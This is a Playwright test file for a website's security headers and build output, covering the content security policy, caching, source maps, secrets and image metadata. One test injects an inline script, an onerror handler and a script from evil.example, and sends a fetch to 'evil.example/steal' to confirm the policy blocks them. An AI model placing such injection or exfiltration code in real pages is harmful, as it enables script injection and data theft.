import { readdir, readFile } from "node:fs/promises";
import path from "node:path";
import { testSites } from "./setup/test-sites";
import { expect, needsLocalServer, open, test } from "./test";

test("the policy names the hosts that are needed, and nobody else", async ({ request }) => {
  const headers = (await request.get("/")).headers();
  const policy = Object.fromEntries(
    (headers["content-security-policy"] ?? "").split(/;\s*/).map((directive) => {
      const [name, ...values] = directive.split(" ");
      return [name, values];
    }),
  );
  expect(policy).toEqual({
    "default-src": ["'none'"],
    "script-src": ["'self'"],
    "style-src": ["'self'", expect.stringMatching(/^'sha256-.{44}'$/)],
    "font-src": ["'self'"],
    "img-src": ["'self'", "https://images.unsplash.com"],
    "connect-src": ["'self'", "https://api.emailjs.com", "https://api.web3forms.com"],
    "manifest-src": ["'self'"],
    "base-uri": ["'none'"],
    "form-action": ["'self'"],
    "frame-ancestors": ["'none'"],
  });
  expect(headers["strict-transport-security"]).toMatch(/^max-age=\d{8}/);
  expect(headers["x-content-type-options"]).toBe("nosniff");
  expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
  expect(headers["permissions-policy"]).toContain("camera=()");
  expect(headers["cross-origin-opener-policy"]).toBe("same-origin");
});

for (const [name, address] of [
  ["front page", "/"],
  ["page of addresses that lead nowhere", "/nothing-here"],
] as const) {
  test.describe(`the ${name}`, () => {
    test.use({ expectedErrors: /Failed to load resource.*404/ });

    test("comes with its styles, and the policy allows them", async ({ page }) => {
      await page.goto(address);
      await expect(page.locator("style")).toHaveCount(1);
      await expect(page.locator("link[rel='stylesheet']:not([media='print'])")).toHaveCount(0);
      await expect(page.locator("body")).toHaveCSS("font-family", /archivo/i);
    });
  });
}

test("what is named by its content is kept for a year, but never that it was missing", async ({
  page,
  request,
}) => {
  await page.goto("/");
  const photo = await page.locator("main source").first().getAttribute("srcset");
  const caching = async (address: string) =>
    (await request.get(address)).headers()["cache-control"] ?? "";
  expect(await caching(photo?.split(" ")[0] ?? "")).toContain("immutable");
  for (const folder of ["/photos", "/_next/static"]) {
    expect(await caching(`${folder}/nothing-here.avif`)).toContain("max-age=0");
  }
});

test.describe("what somebody smuggles into the page", () => {
  test.use({ expectedErrors: /Content Security Policy|Failed to load resource/ });

  test("does not run: no inline script, no event attribute, no style, no stranger's script", async ({
    page,
  }) => {
    await open(page);
    await page.evaluate(async () => {
      const seen: string[] = [];
      Object.assign(window, { seen });
      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
        seen.push(effectiveDirective);
      });
      const inline = document.createElement("script");
      inline.textContent = "window.hacked = 'inline'";
      document.body.append(inline);
      const style = document.createElement("style");
      style.textContent = "body { display: none }";
      document.body.append(style);
      const holder = document.createElement("div");
      holder.innerHTML = `<img src="/images/nothing-here.jpg" onerror="window.hacked = 'attribute'">`;
      document.body.append(holder);
      const stranger = document.createElement("script");
      stranger.src = "https://evil.example/x.js";
      const failed = new Promise((resolve) => stranger.addEventListener("error", resolve));
      document.body.append(stranger);
      await failed;
      await fetch("https://evil.example/steal").catch(() => {});
    });
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { seen: string[] }).seen))
      .toEqual(
        expect.arrayContaining([
          "script-src-elem",
          "script-src-attr",
          "style-src-elem",
          "connect-src",
        ]),
      );
    await expect(page.locator("body")).toBeVisible();
    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  });
});

test("the export holds no source map, no secret and no path of the machine it was built on", async () => {
  needsLocalServer("the files are read from disk");
  const { out } = testSites.keyed;
  const names = await readdir(out, { recursive: true });
  expect(names.filter((name) => /\.map$|(^|\/)\.(env|git)/.test(name))).toEqual([]);
  for (const name of names.filter((one) => /\.(html|js|css|txt|json|xml|webmanifest)$/.test(one))) {
    const content = await readFile(path.join(out, name), "utf8");
    expect(content, name).not.toContain("sourceMappingURL");
    expect(content, name).not.toContain(process.cwd());
  }
});

test("what is published carries no camera or location data", async () => {
  needsLocalServer("the files are read from disk");
  const { default: sharp } = await import("sharp");
  const { out } = testSites.keyed;
  for (const folder of ["images", "photos"]) {
    const names = await readdir(path.join(out, folder), { recursive: true });
    for (const name of names.filter((one) => /\.(jpe?g|png|avif|webp)$/.test(one))) {
      const { exif, xmp, iptc } = await sharp(path.join(out, folder, name)).metadata();
      expect([exif, xmp, iptc], name).toEqual([undefined, undefined, undefined]);
    }
  }
});
